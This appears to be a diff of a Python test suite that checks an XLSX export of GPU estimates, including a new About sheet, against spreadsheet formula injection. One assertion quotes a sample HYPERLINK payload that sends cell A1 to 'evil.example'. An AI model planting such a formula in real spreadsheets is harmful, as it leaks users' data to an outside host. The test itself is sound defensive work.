@@ -493,10 +493,10 @@ def test_parquet_keeps_the_names_as_they_are(hostile_run):
 def test_xlsx_holds_no_formulas(hostile_run):
     with zipfile.ZipFile(hostile_run / "estimates.xlsx") as z:
         sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
-    assert len(sheets) == 3  # options, plan, estimates
+    assert len(sheets) == 4  # About, options, plan, estimates
     for xml in sheets:
         assert "<f>" not in xml and "<f " not in xml  # every name is a text cell, never a formula
-    assert 'HYPERLINK("https://evil.example/?d="&amp;A1,"click")' in sheets[2]
+    assert 'HYPERLINK("https://evil.example/?d="&amp;A1,"click")' in sheets[3]
     # and each such text keeps its quote prefix, so editing its cell in a spreadsheet does not make it a
     # formula (the CSV's leading apostrophe); other text has none
     book = openpyxl.load_workbook(hostile_run / "estimates.xlsx")
@@ -505,6 +505,12 @@ def test_xlsx_holds_no_formulas(hostile_run):
     assert {HYPERLINK, PLUS, AT, MINUS, "=1+1", "@me"} <= prefixed
     assert all(c.value.startswith(FORMULA_STARTS) for c in cells if c.quotePrefix)
     assert all(c.quotePrefix for c in cells if c.value.startswith(FORMULA_STARTS))
+    # the About sheet names the GPUs too (their prices): as text, quote-prefixed, and the title heads each page
+    about = [c for row in book["About"].iter_rows() for c in row if isinstance(c.value, str)]
+    priced = [c for c in about if c.value.startswith(HYPERLINK)]
+    assert priced and all(c.quotePrefix for c in priced)
+    assert all(c.quotePrefix for c in about if c.value.startswith(FORMULA_STARTS))
+    assert book["About"].oddHeader.left.text == TITLE
 
 
 def test_markdown_in_names_is_shown_as_text(hostile_run):
